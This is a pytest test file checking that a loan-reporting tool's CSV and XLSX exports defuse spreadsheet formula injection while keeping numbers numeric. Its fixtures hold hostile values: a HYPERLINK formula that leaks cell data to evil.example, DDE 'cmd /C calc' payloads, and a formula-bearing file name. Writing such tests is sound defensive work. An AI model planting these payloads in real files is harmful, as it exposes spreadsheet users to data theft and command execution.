"""Safe exports: a text cell a spreadsheet would run as a formula leaves with a leading
apostrophe, in CSV and XLSX, masked or not; money (a negative change too) stays a number."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from npldesk.analytics import Analytics, connect
from npldesk.cli.output import OutputFormat, emit
from npldesk.reports.exports import list_export, write_csv, write_file
from npldesk.reports.monthly import monthly_report
from npldesk.reports.monthly_render import write_xlsx
from npldesk.tape.importer import ImportOptions, import_files
from npldesk.tape.org import import_org
from npldesk.tape.store import Store
from tests.reports.test_exports import early_warning_result
from tests.tape_factory import ORG_ROWS, loan_rows, write_org
from tests.tape_factory import write_csv as write_tape

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _hostile_result():  # type: ignore[no-untyped-def]
    result = early_warning_result()
    first, second = result.rows
    first = {**first, "borrower_name": HOSTILE_NAME, "product": "@SUM(1+1)*cmd|'/C calc'!A0"}
    second = {**second, "principal_balance": Decimal("-1250.50"), "reasons": "-2+3", "phone": "\t1"}
    return replace(result, rows=[first, second])


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("pii", [True, False])
def test_a_csv_list_neutralises_formulas_and_keeps_numbers(pii: bool) -> None:
    stream = io.StringIO()
    write_csv(list_export(_hostile_result(), pii=pii), stream)
    first, second = _csv_rows(stream.getvalue())
    assert first["borrower_name"] == "'" + (HOSTILE_NAME if pii else "=" + "*" * 45)
    assert first["product"] == "'@SUM(1+1)*cmd|'/C calc'!A0"
    assert second["reasons"] == "'-2+3"
    assert second["principal_balance"] == "-1250.50"
    assert first["principal_balance"] == "1234567.89"
    for row in (first, second):
        assert not any(value.startswith(("=", "+", "@", "\t", "\r")) for value in row.values())


def test_an_xlsx_list_neutralises_formulas_and_keeps_numbers(tmp_path: Path) -> None:
    table = list_export(_hostile_result(), pii=True)
    target = write_file(table, "xlsx", tmp_path / "ew.xlsx")
    sheet = openpyxl.load_workbook(target).active
    assert sheet is not None
    header = list(table.columns)  # the sheet's head row is in the home's language
    first = dict(zip(header, [cell.value for cell in sheet[4]], strict=True))
    second = dict(zip(header, [cell.value for cell in sheet[5]], strict=True))
    assert first["borrower_name"] == "'" + HOSTILE_NAME
    assert first["product"] == "'@SUM(1+1)*cmd|'/C calc'!A0"
    assert second["reasons"] == "'-2+3"
    assert second["phone"] == "'\t1"
    assert second["principal_balance"] == pytest.approx(-1250.50)
    assert isinstance(second["days_past_due"], int)
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_the_command_lines_csv_neutralises_formulas_and_keeps_numbers(
    capsys: pytest.CaptureFixture[str],
) -> None:
    rows = [
        {"key": "=cmd|' /C calc'!A0", "name": "+86 555", "npl_balance_change": "-1250.50"},
        {"key": "HB01", "name": "@x", "npl_balance_change": Decimal("-0.10")},
    ]
    emit(rows, ["key", "name", "npl_balance_change"], OutputFormat.csv)
    first, second = _csv_rows(capsys.readouterr().out)
    assert first == {
        "key": "'=cmd|' /C calc'!A0",
        "name": "'+86 555",
        "npl_balance_change": "-1250.50",
    }
    assert second == {"key": "HB01", "name": "'@x", "npl_balance_change": "-0.10"}


def test_the_monthly_reports_workbook_neutralises_formulas(tmp_path: Path) -> None:
    """The monthly report's XLSX writes text the bank's own files supply (unit names from the
    organisation file, the tape's file name) as text a spreadsheet will not run."""
    hostile_units = {
        "HB00": "-淮北分行",
        "HB01": HOSTILE_NAME,
        "HB02": "@SUM(1+1)*cmd|'/C calc'!A0",
    }
    org = [{**row, "name": hostile_units.get(row["code"], row["name"])} for row in ORG_ROWS]
    store = Store(tmp_path / "store")
    import_org(store, write_org(tmp_path / "org.csv", org))
    rows = [*loan_rows(4, date(2019, 11, 30)), *loan_rows(4, date(2019, 12, 31))]
    import_files(store, [write_tape(tmp_path / "=cmd.csv", rows)], ImportOptions())
    report = monthly_report(
        Analytics(store=store, engine=connect("duckdb")),
        date(2019, 12, 31),
        generated_by="tester",
        generated_at=datetime(2020, 1, 5, tzinfo=UTC),
    )
    target = tmp_path / "report.xlsx"
    write_xlsx(report, target)
    book = openpyxl.load_workbook(target)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    title = "'-淮北分行 asset-quality report 2019-12"
    assert {title, "'" + HOSTILE_NAME, "'@SUM(1+1)*cmd|'/C calc'!A0", "'=cmd.csv"} <= set(texts)
    assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r"))]
